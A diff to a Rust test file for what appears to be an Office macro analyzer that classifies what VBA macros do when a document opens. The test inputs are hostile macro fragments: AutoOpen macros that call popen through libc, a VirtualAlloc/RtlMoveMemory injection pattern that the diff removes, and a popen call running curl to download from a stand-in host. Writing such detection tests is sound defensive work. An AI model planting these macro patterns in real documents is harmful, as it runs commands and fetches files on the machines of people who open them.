@@ -181,12 +181,20 @@ fn imports_count_where_they_are_called() {
     assert_eq!(download.actions[0].kind, ActionKind::Download);
     assert_eq!(download.actions[0].detail, "http://a.example/x");
     assert!(with("mv 1\n' dl 0").actions.is_empty());
-    let popen = "Private Declare PtrSafe Function popen Lib \"libc.dylib\" (ByVal c As String, ByVal m As String) As LongPtr\n\
-                 Sub AutoOpen()\nf = popen(c, \"r\")\nEnd Sub";
-    assert_eq!(project(&[("M", ModuleKind::Standard, popen)]).actions[0].detail, "…");
-    let inject = "Declare Function va Lib \"kernel32\" Alias \"VirtualAlloc\" (a) As Long\n\
-                  Declare Sub mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (a)\nSub AutoOpen()\np = va(0)\nmv p\nEnd Sub";
-    assert_eq!(project(&[("M", ModuleKind::Standard, inject)]).actions.len(), 2);
+    // What nobody can tell is hidden, not told to be run: there Office keeps it in a sandbox.
+    let popen = |library: &str, body: &str| {
+        let declare = format!(
+            "Private Declare PtrSafe Function popen Lib \"{library}\" (ByVal c As String, ByVal m As String) As LongPtr"
+        );
+        let found = project(&[("M", ModuleKind::Standard, &format!("{declare}\nSub AutoOpen()\n{body}\nEnd Sub"))]);
+        found.actions.iter().map(|action| (action.kind, action.detail.clone())).collect::<Vec<_>>()
+    };
+    let unknown = "f = popen(Range(\"A1\").Text, \"r\")";
+    assert_eq!(popen("/usr/lib/libc.dylib", unknown)[0].0, ActionKind::Indirect);
+    assert_eq!(popen("libc", unknown)[0], (ActionKind::Run, "…".into()));
+    let known = "c = \"curl -o /tmp/a http://a.example/a\" & Range(\"A1\").Text\nf = popen(c, \"r\")";
+    let told = popen("libc.dylib", known);
+    assert!(told[0].0 == ActionKind::Run && told[0].1.starts_with("curl -o"), "{told:?}");
 }
 
 #[test]
